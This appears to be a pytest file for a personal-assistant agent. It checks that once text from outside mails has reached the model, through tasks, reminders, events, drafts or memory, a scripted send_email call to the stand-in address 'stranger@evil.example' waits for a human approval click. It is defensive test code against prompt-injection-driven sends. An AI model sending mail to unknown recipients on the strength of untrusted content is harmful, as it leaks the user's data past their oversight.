"""No word of others' reaches a mind unnoticed: by whichever tool, list, name or refusal it comes, a stranger then takes a click."""

from collections.abc import AsyncIterator, Mapping
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

import jobs.catalogue  # noqa: F401, it registers the jobs
from agent.conversation import Turn
from agent.events import ApprovalAsked
from integrations.store import demo
from integrations.store.people import People
from jobs.run import JOBS, Owed
from tests.minds import ScriptedMind, calls, says
from tests.worlds import NOW, World, open_world

MARK = "zebraquokka"
STRANGER = calls("send_email", to=["stranger@evil.example"], body="Hello")
MAILS: list[dict[str, Any]] = [
    {"from": "", "to": "dana@acme.example", "subject": "Budget", "body": "Here it is.", "at": NOW - timedelta(days=1)},
    {"from": f"Dana {MARK} <dana@acme.example>", "subject": f"Figures {MARK}", "body": f"Could you send me the {MARK} figures by Friday? I need them.", "unread": True},
    {"from": f"{MARK} Club <club@port.example>", "subject": f"Relay {MARK}", "body": f"Please bring a {MARK} towel tomorrow.", "unread": True},
    {"from": f"{MARK} Port <port@port.example>", "subject": f"Race {MARK}", "body": f"Race {MARK}.", "unread": False},
]  # fmt: skip
LEFT: tuple[tuple[str, dict[str, Any]], ...] = (
    ("add_task", {"title": f"Buy {MARK} food", "due": "today", "notes": MARK}),
    ("add_task", {"title": f"Sell {MARK} food", "list": MARK}),
    ("add_task", {"title": "Plain title", "notes": MARK}),
    ("set_reminder", {"text": f"Feed the {MARK}", "when": "in ten minutes"}),
    ("set_reminder", {"text": f"Wash the {MARK}", "when": "tomorrow at nine"}),
    ("add_event", {"title": f"Visit {MARK}", "when": "today at 3pm", "notes": MARK, "place": MARK}),
    ("add_event", {"title": f"Walk {MARK}", "when": "tomorrow at 3pm"}),
    ("add_event", {"title": "Gym", "when": "every day at 6pm", "notes": MARK}),
    ("change_event", {"event": "dentist", "place": f"Dr. {MARK}"}),
    ("change_task", {"task": "Call the plumber", "notes": MARK}),
    ("draft_email", {"to": ["dana@acme.example"], "subject": MARK, "body": MARK}),
    ("remember", {"text": f"I like {MARK}"}),
    ("accept_action", {"action": "all"}),
)
PROBES: tuple[tuple[str, dict[str, Any]], ...] = (
    ("get_time", {}), ("get_time", {"place": MARK}),
    ("list_events", {}), ("list_events", {"when": "today"}), ("list_events", {"about": "gym"}), ("list_events", {"about": "dentist"}),
    ("find_free_time", {"when": "today"}), ("find_free_time", {"when": "tomorrow"}),
    ("list_tasks", {}), ("list_tasks", {"which": "all"}), ("list_tasks", {"about": "plain"}), ("list_tasks", {"list": "nowhere"}), ("list_tasks", {"list": MARK}),
    ("list_reminders", {}), ("search_email", {}), ("search_email", {"query": "in:drafts"}), ("search_email", {"query": "in:sent"}),
    ("read_email", {"message": "from:dana"}), ("read_email", {"message": "port"}), ("read_email", {"message": "race relay"}), ("read_email", {"message": "from:port"}),
    ("summarize_inbox", {}), ("recall", {}), ("recall", {"about": "animals"}), ("recall", {"about": MARK}),
    ("get_briefing", {}), ("get_briefing", {"move": "current"}), ("get_briefing", {"move": "next"}), ("get_briefing", {"move": "more"}), ("get_briefing", {"move": "changes"}),
    ("get_suggestions", {}), ("accept_suggestion", {}), ("dismiss_suggestion", {}), ("list_changes", {}), ("list_changes", {"when": "today"}),
    ("complete_task", {"task": "food"}), ("complete_task", {"task": "plain title"}), ("complete_task", {"task": "plumber"}), ("change_task", {"task": "food", "due": "friday"}),
    ("delete_task", {"task": "food"}), ("delete_task", {"task": "sell"}), ("cancel_reminder", {"reminder": "the"}), ("cancel_reminder", {"reminder": "feed"}),
    ("snooze_reminder", {}), ("change_event", {"event": "walk", "when": "4pm"}), ("change_event", {"event": "visit", "place": "Home"}), ("cancel_event", {"event": "gym"}),
    ("cancel_event", {"event": "tomorrow"}), ("add_event", {"title": "Nap", "when": "today at 3pm"}), ("add_event", {"title": "Nap", "when": "tomorrow at 3pm"}),
    ("accept_action", {"action": "the"}), ("dismiss_action", {"action": "all"}), ("dismiss_action", {"action": "bring"}),
    ("draft_email", {"to": ["Dana"], "body": "Hi"}), ("draft_email", {"to": ["Port"], "body": "Hi"}), ("draft_email", {"body": "Hi", "reply_to": "port"}),
    ("draft_email", {"body": "Hi", "reply_to": "from:club"}), ("send_email", {}), ("send_email", {"draft": "it"}), ("send_email", {"to": ["Port"], "body": "Hi"}),
    ("add_event", {"title": "Tea", "when": "friday at 3pm", "guests": ["Port"]}), ("forget", {"about": "animal"}), ("undo", {}), ("undo", {"count": 3}),
    ("no_such_tool", {"x": MARK}),
)  # fmt: skip


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[World]:
    """A person in whose things others' words stand everywhere, put there on the day before by a mind that had read a mail."""
    mind = ScriptedMind()
    async with open_world(tmp_path, model=mind) as world:
        async with world.services.database.work() as session:
            world.person = await People(session).add(zone="Europe/Berlin", now=NOW - timedelta(days=9), name="Robin")
            events = [{"title": "Dentist", "starts": "2026-03-05T09:30"}]
            await demo.load(
                session, world.person, NOW, events=events, tasks=[{"title": "Call the plumber"}], messages=MAILS
            )
        mind.then([calls("read_email", message="from:club")])
        for tool, arguments in LEFT:
            mind.then([calls(tool, **arguments)], [says("Good.")])
            await world.say(f"I like {MARK}" if tool == "remember" else "go on")
        world.clock.forward(minutes=30)
        for name in ("email.digest", "briefing.write", "suggestions.make", "reminders.ring"):
            await JOBS[name](
                world.services, Owed(job=name, person_id=world.person.id, slot="2026-03-04", due=world.clock())
            )
        mind.forget()
        yield world


def reached(mind: ScriptedMind) -> bool:
    """Whether others' words stand in anything that the mind was given."""
    return any(MARK in f"{prompt.system}{prompt.facts}{prompt.lines}" for prompt in mind.prompts[1:])


async def test_whatever_tells_others_words_is_noticed(world: World) -> None:
    """In a thread of its own, after that one call, a mail to a stranger takes a click wherever the mind has read the mark."""
    mind = world.services.model
    assert isinstance(mind, ScriptedMind)
    unnoticed, noticed = [], 0
    for tool, arguments in PROBES:
        mind.forget()
        mind.then([calls(tool, **arguments)], [STRANGER], [says("Well.")])
        pending = await asked(world, "please", conversation_id="new")
        if pending is None:  # the probe was asked about itself, and is refused
            mind.then([STRANGER], [says("Well.")])
            pending = await asked(world, "no")
        told = reached(mind) and MARK not in str(arguments)
        if told and pending and not pending["by_click"]:
            unnoticed.append((tool, arguments))
        noticed += bool(told and pending)
    assert unnoticed == []
    assert noticed > len(PROBES) / 2


async def asked(world: World, text: str, **turn: Any) -> Mapping[str, Any] | None:
    """One turn; the mail to the stranger, if that was asked about."""
    reply = world.services.assistant.reply(Turn(person=world.person, text=text, **turn))
    pendings = [event.pending async for event in reply if isinstance(event, ApprovalAsked)]
    return next((one for one in pendings if "stranger@evil.example" in str(one["arguments"])), None)
